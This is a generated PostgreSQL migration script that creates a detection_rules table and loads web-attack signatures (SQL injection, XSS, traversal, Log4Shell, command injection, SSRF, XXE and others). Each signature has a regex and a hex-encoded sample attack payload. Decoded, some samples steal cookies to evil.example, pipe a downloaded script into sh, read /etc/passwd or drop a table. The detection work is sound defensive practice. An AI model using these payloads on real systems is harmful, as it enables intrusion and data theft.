-- =================================================================================================
-- changescript: upgrade script, generated; do not edit
--
--   Change       CHG0012346
--   From         4c8e1f0a9d27
--   To           b7d2056ce318    1 revision, 2 statements
--   Dialect      postgresql 12 or later
--   Run          psql -X -d DATABASE -f upgrade.sql
--   Client       psql 10 or later; any other stops at the first line that starts with a backslash
--   Expect       exit 0, and the last line "OK: database DATABASE is at b7d2056ce318"
--   Refuses      any database that is not exactly at 4c8e1f0a9d27; nothing is changed then
--   If it fails  in statements 1-2: nothing has changed
--   Undo         rollback.sql of this folder
--   Settings     lock_timeout 5s, statement_timeout 0, search_path public
--   Regenerate   changescript sql 4c8e1f0a9d27:b7d2056ce318 --ticket CHG0012346
--   SHA-256      f6af4addd29008ff9c8704c9b98144efd4bf32c50836eaf8bfa1158ef4f85077 of all that follows
--
--   1 of 1       b7d2056ce318    add detection rules with the first signatures
-- =================================================================================================

-- Client and session ------------------------------------------------------------------------------
\set QUIET on
\set ON_ERROR_STOP on
\set ON_ERROR_ROLLBACK off
\set AUTOCOMMIT on
\set SINGLELINE off
\encoding UTF8
\pset pager off
\pset format unaligned
\pset tuples_only on
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SET search_path = public, pg_temp;
SET TimeZone = 'UTC';
SET DateStyle = 'ISO';
SET IntervalStyle = 'postgres';
SET default_transaction_isolation = 'read committed';
SET default_transaction_deferrable = off;
SET lock_timeout = '5s';
SET statement_timeout = '0';
SET idle_in_transaction_session_timeout = '10min';
SET check_function_bodies = on;
SET row_security = off;
SET client_min_messages = 'notice';

-- Guard: how every check below looks at alembic_version -------------------------------------------
SELECT CAST('REFUSED: use the --dialect of this server, it is ' || version() AS integer)
WHERE version() ~ 'CockroachDB|-YB-|Redshift|Greenplum';
SET default_transaction_read_only = off;
CREATE OR REPLACE FUNCTION pg_temp.heads() RETURNS text[]
LANGUAGE plpgsql AS $guard$
BEGIN
    IF to_regclass('alembic_version') IS NULL THEN
        RETURN '{}';
    END IF;
    RETURN (
        SELECT coalesce(array_agg(version_num::text ORDER BY version_num COLLATE "C"), '{}')
        FROM alembic_version
    );
END
$guard$;
CREATE OR REPLACE PROCEDURE pg_temp.require_heads(
    want text[],
    otherwise text DEFAULT 'REFUSED',
    target text[] DEFAULT NULL,
    half_done text[] DEFAULT '{}',
    index text DEFAULT NULL,
    state text DEFAULT NULL
)
LANGUAGE plpgsql AS $guard$
DECLARE
    have text[];
    actual text;
    needed text := coalesce(nullif(array_to_string(want, ', '), ''), 'base');
BEGIN
    IF strpos('
    ', E'\r') > 0 THEN
        RAISE EXCEPTION 'REFUSED: the line ends of this file have been converted to CRLF';
    END IF;
    IF version() ~ 'CockroachDB|-YB-|Redshift|Greenplum' THEN
        RAISE EXCEPTION 'REFUSED: use the --dialect of this server; this server is %', version();
    END IF;
    -- a session that has just ended may hold its lock for a moment
    FOR attempt IN 1..20 LOOP
        EXIT WHEN pg_try_advisory_lock(-6160906222560897874);
        IF attempt = 20 THEN
            RAISE EXCEPTION 'REFUSED: another script is running in database "%"', current_database();
        END IF;
        PERFORM pg_sleep(0.1);
    END LOOP;
    IF target IS NULL AND current_setting('changescript.started') <> 'yes' THEN
        RAISE EXCEPTION 'REFUSED: the first check of this script has not passed';
    END IF;
    have := pg_temp.heads();
    actual := coalesce(nullif(array_to_string(have, ', '), ''), 'base');
    IF have = target THEN
        RAISE EXCEPTION 'REFUSED: database "%" is already at %, nothing to do',
            current_database(), actual;
    ELSIF have <> want
        AND NOT EXISTS (SELECT FROM unnest(half_done) AS marker WHERE marker::text[] = have)
    THEN
        RAISE EXCEPTION '%: database "%" is at %, this script needs %',
            otherwise, current_database(), actual, needed;
    END IF;
    IF index IS NOT NULL THEN
        CALL pg_temp.require_index(index, state);
    END IF;
    PERFORM set_config('changescript.started', 'yes', false);
    -- the session stays read-only until a check has passed
    PERFORM set_config('default_transaction_read_only', 'off', false);
END
$guard$;
SET changescript.started = 'no';
BEGIN;
SET default_transaction_read_only = on;
COMMIT;
CALL pg_temp.require_heads('{4c8e1f0a9d27}', target => '{b7d2056ce318}');
\unset QUIET

-- =================================================================================================
-- 1 of 1   b7d2056ce318   add detection rules with the first signatures
-- =================================================================================================

BEGIN;
LOCK TABLE alembic_version IN EXCLUSIVE MODE;
CALL pg_temp.require_heads('{4c8e1f0a9d27}');

SELECT '1 of 1: 4c8e1f0a9d27 -> b7d2056ce318' AS progress;

-- [1] create_table                         alembic/versions/b7d2056ce318_add_detection_rules.py:338
CREATE TABLE detection_rules (
    id INTEGER GENERATED ALWAYS AS IDENTITY,
    code VARCHAR(32) NOT NULL,
    category VARCHAR(32) NOT NULL,
    title VARCHAR(120) NOT NULL,
    pattern TEXT NOT NULL,
    tags JSON NOT NULL,
    weight NUMERIC(6, 3) NOT NULL,
    introduced_at TIMESTAMP WITH TIME ZONE NOT NULL,
    sample_payload BYTEA,
    enabled BOOLEAN DEFAULT true NOT NULL,
    CONSTRAINT pk_detection_rules PRIMARY KEY (id),
    CONSTRAINT uq_detection_rules_code UNIQUE (code)
);

-- [2] bulk_insert                          alembic/versions/b7d2056ce318_add_detection_rules.py:354
INSERT INTO detection_rules (
    code,
    category,
    title,
    pattern,
    tags,
    weight,
    introduced_at,
    sample_payload
)
VALUES
    ('SQLI-001', 'sqli', 'SQL injection: tautology, as in '' OR ''1''=''1',
        '(?i)[''"]\s*(?:or|and)\s+([''"]?)[\w%]+\1\s*(?:=|<>|like)\s*\1[\w%]+',
        '["sqli", "owasp:a03", "quote '' and \""]', 0.950,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x69643d3127204f52202731273d273127202d2d'),
    ('SQLI-002', 'sqli', 'SQL injection: UNION SELECT, also with comments for blanks',
        '(?i)union(?:\s|/\*.*?\*/|\+|%20)+(?:all(?:\s|/\*.*?\*/)+)?select\b',
        '["sqli", "owasp:a03"]', 0.970, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x69643d2d312f2a2a2f554e494f4e2f2a2a2f53454c4543542f2a2a2f7573656e616d652c7061737377642f2a2a2f46524f4d2f2a2a2f70675f736861646f773b2d2d'),
    ('SQLI-003', 'sqli', 'SQL injection: the rest of the statement commented out',
        '(?i)[''"\)]\s*;?\s*(?:--[\s+]|#|/\*(?!\*/))', '["sqli", "comment:--", "comment:/*"]',
        0.600, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00', '\x61646d696e272f2a'),
    ('SQLI-004', 'sqli', 'SQL injection: stacked statement',
        '(?i);\s*(?:drop|alter|truncate|insert|update|delete|exec(?:ute)?)\s+\w+',
        '["sqli", "owasp:a03"]', 0.990, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x313b2044524f50205441424c45207468726561745f6576656e74733b202d2d'),
    ('SQLI-005', 'sqli', 'SQL injection: time-based, blind',
        '(?i)\b(?:pg_sleep|sleep|benchmark)\s*\(\s*\d|waitfor\s+delay\s*''\d+:\d+:\d+''',
        '["sqli", "blind"]', 0.980, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x31273b2057414954464f522044454c41592027303a303a35272d2d'),
    ('SQLI-006', 'sqli', 'SQL injection: PostgreSQL dollar quotes, $$ or $tag$',
        '\$(?:[A-Za-z_]\w*)?\$.*?\$(?:[A-Za-z_]\w*)?\$|::(?:text|regclass|int)\b',
        '["sqli", "postgresql", "$$", "::"]', 0.820,
        TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
        '\x31204f522024246124243d24246124243a3a74657874'),
    ('SQLI-007', 'sqli', 'SQL injection: LIKE with a leading wildcard, %25 or %',
        '(?i)\blike\s+''(?:%25|%)+[^'']*''|\bescape\s+''\\''', '["sqli", "100%", "%s", "%(name)s"]',
        0.455, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x6e616d653d27206f72206e616d65206c696b6520272561646d696e25272065736361706520275c'),
    ('XSS-001', 'xss', 'XSS: <script> element', '(?i)<\s*script\b[^>]*>(?:.*?)<\s*/\s*script\s*>',
        '["xss", "owasp:a03"]', 0.960, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x3c7363726970743e666574636828272f2f6576696c2e6578616d706c652f3f633d272b646f63756d656e742e636f6f6b6965293c2f7363726970743e'),
    ('XSS-002', 'xss', 'XSS: event handler in an attribute',
        '(?i)\bon(?:error|load|click|mouseover|focus)\s*=\s*(?:"[^"]*"|''[^'']*''|[^\s>]+)',
        '["xss"]', 0.880, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x3c696d67207372633d78206f6e6572726f723d22616c65727428277873732026206d6f72652729223e'),
    ('XSS-003', 'xss', 'XSS: javascript: and data: URLs, with white space inside',
        E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\\s*v\\s*a\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t | v\\s*b\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t ) \\s* :\n\t|\tdata \\s* : \\s* text/html \\s* ;\t# data:text/html;base64,...\n',
        '["xss", "url:javascript:"]', 0.910,
        TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
        '\x3c6120687265663d226a617661097363726970740a3a616c657274283129223e'),
    ('XSS-004', 'xss', 'XSS: HTML entities that spell a tag, &lt; &#60; &#x3c;',
        '(?i)&(?:lt|#0*60|#x0*3c);?\s*(?:script|svg|iframe|img)\b', '["xss", "&lt;", "&amp;&amp;"]',
        0.640, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x266c743b7376672f6f6e6c6f61643d616c657274262334303b31262334313b2667743b'),
    ('XSS-005', 'xss', 'XSS: template expression, {{…}} or ${…}',
        '\{\{.*?(?:constructor|__proto__|prototype).*?\}\}|\$\{[^}]*(?:alert|eval)\(',
        '["xss", "ssti"]', 0.790, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x7b7b636f6e7374727563746f722e636f6e7374727563746f722827616c657274283129272928297d7d'),
    ('TRAVERSAL-001', 'traversal', 'Path traversal: ../ and ..\, also encoded once or twice',
        '(?i)(?:\.\.|%2e%2e|%252e%252e)(?:/|\\|%2f|%5c|%252f|%255c)',
        '["traversal", "windows:\\", "C:\\"]', 0.930,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x474554202f7374617469632f2e2e2535632e2e2535632e2e25356377696e646f77735c77696e2e696e69'),
    ('TRAVERSAL-002', 'traversal', 'Path traversal: files that nobody asks for',
        '(?i)/(?:etc/(?:passwd|shadow)|proc/self/environ)|\b[c-z]:\\(?:windows|boot\.ini)\b',
        '["traversal", "lfi"]', 0.940, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x66696c653d2e2e2e2e2f2f2e2e2e2e2f2f6574632f706173737764'),
    ('TRAVERSAL-003', 'traversal', 'Path traversal: a NUL byte cuts off the extension',
        '%00|\\x00|\\0|\x5cu0000', '["traversal", "nul"]', 0.870,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x66696c653d2e2e2f2e2e2f6574632f706173737764002e706e67'),
    ('TRAVERSAL-004', 'traversal', 'Path traversal: overlong UTF-8, %c0%af for /',
        '(?i)%c0%a[ef]|%c1%9c|%e0%80%af', '["traversal", "utf-8", "cve:2000-0884"]', 0.900,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
'\x474554202f736372697074732f2e2ec0af2e2ec19c2e2e2f77696e6e742f73797374656d33322f636d642e657865ff'),
    ('JNDI-001', 'jndi', 'Log4Shell: ${jndi:ldap://…}, CVE-2021-44228',
        '(?i)\$\{\s*jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|https?)\s*:',
        '["log4shell", "cve:2021-44228"]', 0.999,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
  '\x557365722d4167656e743a20247b6a6e64693a6c6461703a2f2f3139382e35312e3130302e373a313338392f617d'),
    ('JNDI-002', 'jndi', 'Log4Shell: nested lookups, ${${lower:j}ndi:…} and ${::-j}',
        '(?i)\$\{(?:\$\{(?:(?:lower|upper|env|sys|date):[^}]*|::-[^}]*)\}|[jndi])+',
        '["log4shell", "obfuscated", "${::-j}"]', 0.990,
        TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
        '\x247b247b3a3a2d6a7d247b3a3a2d6e7d247b3a3a2d647d247b3a3a2d697d3a247b3a3a2d6c7d6461703a2f2f3139382e35312e3130302e372f617d'),
    ('HEADER-001', 'header', 'Header splitting: an encoded CR LF before a header',
        '(?i)(?:%0d%0a|%0a|\\r\\n|\r\n)\s*(?:set-cookie|location|content-\w+)\s*:',
        '["crlf", "header:set-cookie"]', 0.920,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
    '\x2f3f6e6578743d780d0a5365742d436f6f6b69653a207369643d313b20506174683d2f0d0a0d0a3c68746d6c3e'),
    ('HEADER-002', 'header', 'Request smuggling: both lengths, or a length with a tab',
        E'(?is)content-length\\s*:[^\r\n]*\r?\n.*?transfer-encoding[\t ]*:[\t ]*chunked',
        '["smuggling", "cl.te"]', 0.890,
        TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
        '\x436f6e74656e742d4c656e6774683a20360d0a5472616e736665722d456e636f64696e673a096368756e6b65640d0a0d0a300d0a0d0a47'),
    ('HEADER-003', 'header', 'Shellshock: a function in a header, CVE-2014-6271',
        '\(\s*\)\s*\{\s*(?:[^}]*;)?\s*:?\s*;?\s*\}\s*;', '["shellshock", "cve:2014-6271"]', 0.985,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x2829207b203a3b207d3b202f62696e2f62617368202d632027636174202f6574632f70617373776427'),
    ('COMMAND-001', 'command', 'Command injection: separators before a well-known program',
        '(?:;|\|\|?|&&?|`|\$\()\s*(?:cat|curl|wget|nc|bash|sh|id|whoami|powershell)\b',
        '["rce", "&&", "||", ";"]', 0.965, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x686f73743d3132372e302e302e313b6375726c20687474703a2f2f6576696c2e6578616d706c652f782e73687c7368202626206964'),
    ('COMMAND-002', 'command', 'Command injection: words broken up by quotes or backslashes',
        '(?i)\b(?:c[''"\\]+a[''"\\]*t|w[''"\\]+g[''"\\]*e[''"\\]*t|i[''"\\]+d)\b',
        '["rce", "obfuscated"]', 0.770, TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
        '\x6327612774202f6574632f70615c737377643b20775c6765742078'),
    ('SSRF-001', 'ssrf', 'SSRF: cloud metadata and addresses of the own network',
        '(?i)https?://(?:169\.254\.169\.254|metadata\.google\.internal|\[::1?\]|127\.\d+)',
        '["ssrf", "ipv6:[::1]"]', 0.955, TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
        '\x75726c3d687474703a2f2f5b3a3a666666663a3136392e3235342e3136392e3235345d3a38302f6c61746573742f6d6574612d646174612f'),
    ('XXE-001', 'xxe', 'XXE: external entity, or one that grows',
        '(?is)<!(?:doctype|entity)[^>]*\b(?:system|public)\b\s*["''][^"'']+["'']|(?:&\w+;){10,}',
        '["xxe", "<!--", "-->"]', 0.945, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x3c21444f43545950452078205b0a093c21454e5449545920652053595354454d202266696c653a2f2f2f6574632f706173737764223e203c212d2d2026653b202d2d3e0a5d3e0a3c783e26653b3c2f783e'),
    ('NOSQL-001', 'nosql', 'NoSQL injection: operators in JSON or in brackets',
        '(?i)["'']?\$(?:ne|gt|lt|where|regex|exists)["'']?\s*:|\[\$(?:ne|gt|regex)\]=',
        '["nosqli", "mongodb", "{\"$ne\": null}"]', 0.860,
        TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
      '\x7b2275736572223a202261646d696e222c202270617373776f7264223a207b22246e65223a206e756c6c7d7d'),
    ('LDAP-001', 'ldap', 'LDAP injection: a filter that is always true',
        '\*\)\s*\(\s*(?:\||&|!)|\)\s*\(\s*(?:uid|cn|objectclass)\s*=\s*\*', '["ldapi", "*)(&"]',
        0.810, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x757365723d2a29287569643d2a2929287c287569643d2a2670617373776f72643d78'),
    ('SCANNER-001', 'scanner', 'Scanner: user agents that say so',
        E'(?ix)\n\t^ (?:\tsqlmap/ \\d+ [.\\d]*\t# sqlmap/1.7.2#stable (https://sqlmap.org)\n\t|\tnikto | Nmap\\ Scripting\\ Engine ; \t# ''Mozilla/5.0 (compatible; Nmap ...)''\n\t|\tmasscan/ | zgrab/ | wpscan )\n',
        '["scanner", "user-agent"]', 0.300, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
        '\x73716c6d61702f312e372e3223737461626c65202868747470733a2f2f73716c6d61702e6f726729'),
    ('UNICODE-001', 'unicode', 'Look-alikes: full-width quotes and slashes, ＇ ＂ ／ ＼', '[＇＂／＼∕⁄ʹ‘’]',
        '["unicode", "\u00e9vasion", "\uff0f"]', 0.520,
        TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
        '\x69643d31efbc87204f5220efbc8731efbc873defbc8731'),
    ('SPAM-001', 'spam', 'Spam: runs of emoji, as in 💰💰💰 or 🔥🔥🔥',
        '(?:[🌀-🫿]️?){3,}|💯% free|\bfree\s+(?:money|crypto)\b',
        '["spam", "\ud83d\udcb0", "\ud83d\udc69\u200d\ud83d\udcbb"]', 0.125,
        TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
        '\xf09f94a5f09f94a5f09f94a5203130302520465245452063727970746f20f09f92b020e2809420636c69636b3a2068747470733a2f2f7370616d2e6578616d706c652f3f613d3126623d32'),
    ('DESERIALIZE-001', 'deserialize', 'Deserialisation: Java, PHP and Python objects in a request',
        'rO0AB[A-Za-z0-9+/=]{8,}|\b[OC]:\d+:"[\w\\]+":\d+:\{|\bc(?:os|posix)\nsystem\n',
        '["rce", "java", "php", "pickle"]', 0.975,
        TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
        '\x5c7834315c3130314f3a383a224578616d706c655c476164676574223a313a7b733a333a22636d64223b733a323a226964223b7d');

UPDATE alembic_version SET version_num = 'b7d2056ce318' WHERE version_num = '4c8e1f0a9d27';
CALL pg_temp.require_heads('{b7d2056ce318}', 'FAILED');

COMMIT;

-- End: where the database really is ---------------------------------------------------------------
CALL pg_temp.require_heads('{b7d2056ce318}', 'FAILED');
SELECT CASE WHEN pg_temp.heads() = '{b7d2056ce318}' THEN 'OK' ELSE 'FAILED' END
    || ': database ' || current_database() || ' is at '
    || coalesce(nullif(array_to_string(pg_temp.heads(), ', '), ''), 'base') AS result;
